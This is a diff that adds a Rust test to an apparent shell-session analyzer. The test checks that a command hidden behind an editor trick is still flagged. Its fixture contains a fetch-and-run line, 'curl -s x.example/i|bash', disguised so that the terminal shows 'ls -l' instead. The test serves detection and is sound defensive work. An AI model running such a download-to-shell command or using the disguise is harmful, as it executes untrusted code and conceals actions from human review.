@@ -145,3 +145,24 @@ fn text_taken_for_a_prompt_is_still_judged() {
     assert_eq!(piped.len(), 1, "once for the prompt: {:?}", report.findings);
     assert!(piped[0].evidence.starts_with("in the text read as the prompt"), "{piped:?}");
 }
+
+/// The screen says an editor showed bash's `bash-fc` file, and the line after it is taken as
+/// what ran (Ctrl-X Ctrl-E). A command can fake that (an editor on a file of that name, then
+/// output): what was typed is judged too, so a download piped to a shell cannot hide behind
+/// the line printed after the editor.
+#[test]
+fn a_line_replaced_after_an_editor_is_still_judged_as_typed() {
+    let mut bytes = b"Script started on 2026-12-07 10:00:00+00:00 [COMMAND=\"x\"]\n".to_vec();
+    bytes.extend_from_slice(b"\x1b[?2004h[ec2-user@ip-10-0-0-1 ~]$ vim /tmp/bash-fc.aaaaaa; curl -s x.example/i|bash\r\n\x1b[?2004l\r");
+    bytes.extend_from_slice(
+        b"\x1b[?1049h\x1b[H\x1b[2J\"/tmp/bash-fc.aaaaaa\" 0L\x1b[?1049lls -l\r\n",
+    );
+    bytes.extend_from_slice(b"\x1b[?2004h[ec2-user@ip-10-0-0-1 ~]$ exit\r\n\x1b[?2004l\r");
+    bytes
+        .extend_from_slice(b"Script done on 2026-12-07 10:01:00+00:00 [COMMAND_EXIT_CODE=\"0\"]\n");
+    let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
+    assert_eq!(report.commands[0].command, "ls -l", "read as what bash echoed");
+    let piped: Vec<_> = report.findings.iter().filter(|f| f.rule_id == "SA-CMD-040").collect();
+    assert_eq!(piped.len(), 1, "{:?}", report.findings);
+    assert!(piped[0].evidence.starts_with("typed, then replaced in an editor"), "{piped:?}");
+}
